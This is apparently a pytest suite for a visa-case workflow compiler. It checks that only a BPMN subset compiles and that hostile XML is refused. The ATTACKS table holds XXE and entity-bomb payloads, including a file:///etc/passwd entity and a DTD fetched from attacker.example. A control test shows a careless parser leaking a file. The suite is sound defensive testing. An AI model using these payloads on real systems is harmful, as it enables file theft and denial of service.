"""What compiles, and what is refused with element, id, name and line."""

import time
import tracemalloc

import pytest
from django.conf import settings
from lxml import etree

from consular.workflow.compile import NotInSubset, compile
from consular.workflow.graph import Kind
from tests.workflow import bpmn
from tests.workflow.bpmn import element, end, flow, path, process, properties, start, user

SCHENGEN = (settings.FORMS_DIR / "schengen_visa" / "v1" / "process.bpmn").read_bytes()


def test_the_schengen_process_compiles_with_its_facts() -> None:
    graph = compile(SCHENGEN)

    decide = graph.node("decide")
    assert (decide.kind, decide.lane, decide.form, decide.step) == (
        Kind.USER,
        "decider",
        "decision",
        "approve",
    )
    assert (decide.phase, decide.four_eyes_with, decide.name) == (
        "in_review",
        "examine",
        "Decide on the application",
    )
    examine = graph.node("examine").sla
    assert (graph.id, graph.start, examine and examine.written) == ("schengen_visa", "submitted", "P15D")
    assert graph.node("issue_letter").service_type == "casework.issue"
    assert graph.node("await_answer").message == "applicant.answered"
    assert graph.node("is_complete").default == "complete_yes"
    assert len(graph.nodes) == 15


def test_the_schengen_process_is_drawn_completely() -> None:
    text = SCHENGEN.decode()
    graph = compile(SCHENGEN)

    for node in graph.nodes.values():
        assert f'bpmnElement="{node.id}"' in text
        assert all(f'bpmnElement="{way.id}"' in text for way in node.outgoing)
        assert node.name


def test_a_graph_cannot_be_changed() -> None:
    graph = compile(SCHENGEN)

    with pytest.raises(AttributeError):
        graph.node("decide").lane = "janitor"  # type: ignore[misc]
    with pytest.raises(TypeError):
        graph.nodes["decide"] = graph.node("examine")  # type: ignore[index]


def single(part: str, *more: str, id: str = "x") -> bytes:
    """A process that leads through one element."""
    return process(start(), part, end(), path("start", id, "end"), *more)


LOOP = "<multiInstanceLoopCharacteristics{}>{}</multiInstanceLoopCharacteristics>"
REFUSED = {
    "script task": (single(element("scriptTask", "x")), "scriptTask"),
    "manual task": (single(element("manualTask", "x")), "manualTask"),
    "plain task": (single(element("task", "x")), "task"),
    "complex gateway": (single(element("complexGateway", "x")), "complexGateway"),
    "inclusive gateway": (single(element("inclusiveGateway", "x")), "inclusiveGateway"),
    "throwing event": (single(element("intermediateThrowEvent", "x")), "intermediateThrowEvent"),
    "transaction": (single(element("transaction", "x")), "transaction"),
    "ad-hoc sub-process": (single(element("adHocSubProcess", "x")), "adHocSubProcess"),
    "data object": (single(user("x"), element("dataObject", "data")), "dataObject"),
    "signal event": (
        single(element("intermediateCatchEvent", "x", "<signalEventDefinition/>")), "intermediateCatchEvent",
    ),
    "cyclic timer": (
        single(bpmn.timer("x").replace("timeDuration", "timeCycle")),
        "intermediateCatchEvent",
    ),
    "timer that is none": (single(bpmn.timer("x", "soon")), "intermediateCatchEvent"),
    "event without definition": (single(element("intermediateCatchEvent", "x")), "intermediateCatchEvent"),
    "message that is not declared": (single(bpmn.message("x", "nothing")), "intermediateCatchEvent"),
    "error that is not declared": (
        process(start(), user("u"), bpmn.error_end("x", "nothing"), path("start", "u", "x")), "endEvent",
    ),
    "timer start": (
        process(element("startEvent", "start", "<timerEventDefinition/>"), end(), path("start", "end")), "startEvent",
    ),
    "event sub-process": (
        single(user("x"),
               element("subProcess", "s", start("in") + end("out") + path("in", "out"), triggeredByEvent="true")),
        "subProcess",
    ),
    "compensation": (single(element("userTask", "x", isForCompensation="true")), "userTask"),
    "standard loop": (single(user("x", "<standardLoopCharacteristics/>")), "userTask"),
    "sequential rounds": (
        single(user("x", bpmn.each("=list").replace("Characteristics>", 'Characteristics isSequential="true">', 1))),
        "multiInstanceLoopCharacteristics",
    ),
    "rounds without list": (single(user("x", LOOP.format("", "<loopCardinality>3</loopCardinality>"))),
                            "multiInstanceLoopCharacteristics"),
    "unknown property": (single(user("x", colour="red")), "userTask"),
    "unknown extension": (single(element("userTask", "x", "", "<zeebe:formDefinition/>")), "zeebe:formDefinition"),
    "time limit that is none": (single(user("x", sla="two days")), "userTask"),
    "service without type": (single(element("serviceTask", "x")), "serviceTask"),
    "decision without name": (single(element("businessRuleTask", "x")), "businessRuleTask"),
    "call without version": (
        single(element("callActivity", "x", "", '<zeebe:calledElement processId="p"/>')), "callActivity",
    ),
    "call of an unpublished process": (
        single(element("callActivity", "x", "", '<zeebe:calledElement processId="p"/>' + properties(version="1"))),
        "callActivity",
    ),
    "condition that is no FEEL": (
        process(start(), bpmn.exclusive("g", "g-end"), user("x"), end(), path("start", "g", "end"), path("x", "end"),
                flow("g", "x", "=a + ")),
        "sequenceFlow",
    ),
    "condition behind a task": (
        process(start(), user("x"), end(), path("start", "x"), flow("x", "end", "=true")), "userTask",
    ),
    "two ways out of a task": (
        process(start(), user("x"), end(), end("e2"), path("start", "x", "end"), path("x", "e2")), "userTask",
    ),
    "a task that leads nowhere": (process(start(), user("x"), end(), path("start", "x")), "userTask"),
    "two starts": (process(start(), start("s2"), end(), path("start", "end"), path("s2", "end")), "process"),
    "no start": (process(user("x"), end(), path("x", "end")), "process"),
    "the same id twice": (single(user("x"), user("x")), "userTask"),
    "an id that is no name": (single(user("x y"), id="x y"), "userTask"),
    "an id that is too long": (single(user("x" * 61), id="x" * 61), "userTask"),
    "a flow out of a sub-process": (
        process(start(), bpmn.sub("s", start("in"), user("x"), end("out"), path("in", "x", "out")), end(),
                path("start", "s", "end"), flow("x", "end", id="f")),
        "sequenceFlow",
    ),
    "four eyes with nobody": (single(user("x", fourEyesWith="nobody")), "userTask"),
    "four eyes with oneself": (single(user("x", fourEyesWith="x")), "userTask"),
    "a boundary event on a gateway": (
        single(bpmn.parallel("x"), bpmn.on_timer("late", "x"), path("late", "end")), "boundaryEvent",
    ),
    "an error that does not interrupt": (
        single(bpmn.service("x"), 
               bpmn.on_error("bad", "x").replace("attachedToRef", 'cancelActivity="false" attachedToRef'),
               path("bad", "end")),
        "boundaryEvent",
    ),
    "an error of a person": (single(user("x"), bpmn.on_error("bad", "x"), path("bad", "end")), "boundaryEvent"),
    "a task behind an event-based gateway": (
        process(start(), bpmn.race("x"), bpmn.timer("t"), user("u"), end(), path("start", "x", "t", "end"),
                path("x", "u", "end")),
        "eventBasedGateway",
    ),
    "lanes in lanes": (SCHENGEN.replace(b"</bpmn:lane>", b"<bpmn:childLaneSet/></bpmn:lane>", 1), "lane"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_anything_outside_the_subset_is_refused_by_element(name: str) -> None:
    xml, tag = REFUSED[name]

    with pytest.raises(NotInSubset) as raised:
        compile(xml)

    assert raised.value.element == tag


def test_a_refusal_names_element_id_name_and_line() -> None:
    xml = SCHENGEN.replace(
        b'<zeebe:property name="step" value="propose" />', b'<zeebe:property name="colour" value="red" />'
    )
    line = xml[: xml.index(b'<bpmn:userTask id="examine"')].count(b"\n") + 1

    with pytest.raises(NotInSubset) as raised:
        compile(xml)

    assert (
        str(raised.value)
        == f'line {line}: userTask examine "Examine the application": unknown property colour'
    )


def test_what_the_modeler_adds_for_itself_is_no_obstacle() -> None:
    modeler = SCHENGEN.replace(
        b"<bpmn:definitions ",
        b'<bpmn:definitions xmlns:modeler="http://camunda.org/schema/modeler/1.0" exporter="Camunda Modeler" '
        b'exporterVersion="5.20.0" modeler:executionPlatform="Camunda Cloud" ',
    ).replace(
        b'name="Check completeness">\n      <bpmn:extensionElements>',
        b'name="Check completeness">\n      <bpmn:extensionElements><zeebe:userTask />',
    )
    annotated = modeler.replace(
        b"</bpmn:process>",
        b'<bpmn:textAnnotation id="note"><bpmn:text>Art. 19</bpmn:text></bpmn:textAnnotation></bpmn:process>',
    )  # fmt: skip

    assert annotated.count(b"zeebe:userTask") == 1
    assert compile(annotated).nodes.keys() == compile(SCHENGEN).nodes.keys()


ENTITIES = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
ATTACKS = {
    "entity bomb": b'<!DOCTYPE d [<!ENTITY e0 "ha">' + ENTITIES + b"]><definitions>&e11;</definitions>",
    "external entity": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><definitions>&x;</definitions>',
    "external document type": b'<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd"><definitions/>',
    "document type in another encoding": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE d [<!ENTITY x "y">]>'
    .encode("utf-16"),
    "document type in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d+AD4-<d/>',
    "deep nesting": b"<a>" * 100_000 + b"</a>" * 100_000,
    "nesting just inside the parser's own limit": b"<a>" * 200 + b"</a>" * 200,
    "huge file": b"<a>" + b" " * 2_000_000 + b"</a>",
    "many elements": b"<a>" + b"<b/>" * 100_000 + b"</a>",
    "many attributes": b"<a " + b" ".join(b'a%d="x"' % n for n in range(60_000)) + b"/>",
    "nothing": b"",
    "no XML": b"\x00\xff\xfe{}",
    "another document": b"<html xmlns='http://www.w3.org/1999/xhtml'/>",
    "control characters": b"<definitions>\x00\x01</definitions>",
    "deep expression": process(
        start(), bpmn.exclusive("g", "g-end"), user("x"), end(), path("start", "g", "end"), path("x", "end"),
        flow("g", "x", "=" + "(" * 5_000 + "1" + ")" * 5_000),
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_hostile_files_are_refused_fast_and_small(name: str) -> None:
    tracemalloc.start()
    begun = time.process_time()

    with pytest.raises(NotInSubset):
        compile(ATTACKS[name])

    seconds, (_now, peak) = time.process_time() - begun, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert seconds < 0.5
    assert peak < 50_000_000


def test_without_the_ban_an_entity_would_read_a_file(
    monkeypatch: pytest.MonkeyPatch, tmp_path: object
) -> None:
    """The negative control: a careless parser hands out what the attacker asks for."""
    secret = tmp_path / "secret"  # type: ignore[operator]
    secret.write_text("keys")
    xml = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]><d>&x;</d>'.encode()
    careless = etree.XMLParser(resolve_entities=True, load_dtd=True)

    assert etree.fromstring(xml, careless).text == "keys"
    with pytest.raises(NotInSubset, match="document types"):
        compile(xml)
